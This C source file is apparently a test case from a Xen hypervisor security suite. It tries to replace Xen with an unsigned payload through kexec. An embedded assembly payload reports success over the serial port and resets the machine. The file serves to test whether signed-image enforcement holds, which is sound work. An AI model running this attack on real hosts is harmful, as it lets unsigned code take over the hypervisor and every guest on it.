// SPDX-License-Identifier: GPL-2.0-only
/*
 * kexec_op: Xen loads an image for its caller and, when asked, stops everything
 * and jumps to it. Nobody looks at who made the image.
 */
#include "../rogue.h"

#include <elf.h>

#include <xen/kexec.h>

/*
 * Where in the machine's RAM the payload goes: nothing lives there once Xen has
 * let go.
 */
static const uint64_t payload_at = 16UL << 20;

extern const char kexec_payload[], kexec_payload_end[];

/*
 * The payload, entered on the bare machine in 64-bit mode, its memory mapped
 * one to one. It reports its own success on the first serial port, in this
 * program's words, and resets.
 */
__asm__(
    ".section .rodata\n"
    ".globl kexec_payload, kexec_payload_end\n"
    "kexec_payload:\n"
    "    cli\n"
    "    lea 4f(%rip), %rsi\n"
    "1:  mov $0x3fd, %edx\n" /* line status: transmitter empty? */
    "2:  in (%dx), %al\n"
    "    test $0x20, %al\n"
    "    jz 2b\n"
    "    lodsb\n"
    "    test %al, %al\n"
    "    jz 3f\n"
    "    mov $0x3f8, %edx\n"
    "    out %al, (%dx)\n"
    "    jmp 1b\n"
    "3:  mov $0xcf9, %edx\n" /* reset control */
    "    mov $0x6, %al\n"
    "    out %al, (%dx)\n"
    "    hlt\n"
    "    jmp 3b\n"
    "4:  .ascii \"\\n@rogue result U-KEXEC succeeds unsigned code runs in place of Xen\\n\"\n"
    "    .asciz \"\\n@rogue done 1\\n\\n\"\n"
    "kexec_payload_end:\n"
    ".text\n");

/*
 * U-KEXEC: replace Xen by code that nobody signed.
 *
 * If it works, nothing of this program is left to tell: the payload does.
 */
ATTACK_OWN_BOOT("U-KEXEC", "load an unsigned image with kexec and run it")
{
    char *image = buffer(PAGE_SIZE);
    xen_kexec_segment_t segment = { .buf.h.p = image,
                                    .buf_size = PAGE_SIZE,
                                    .dest_size = PAGE_SIZE,
                                    .dest_maddr = payload_at };
    xen_kexec_load_t load = { .type = KEXEC_TYPE_DEFAULT,
                              .arch = EM_X86_64,
                              .nr_segments = 1,
                              .entry_maddr = payload_at,
                              .segments.h.p = &segment };
    xen_kexec_exec_t exec = { .type = KEXEC_TYPE_DEFAULT };

    memcpy(image, kexec_payload, (size_t)(kexec_payload_end - kexec_payload));
    if ( kexec_op(KEXEC_CMD_kexec_load, &load) == -ENOSYS )
        return not_applicable("Xen takes no kexec from this kind of dom0");
    announce("about to kexec");
    kexec_op(KEXEC_CMD_kexec, &exec);
    rest(2000);

    return effect(false, "Xen and dom0 still run");
}
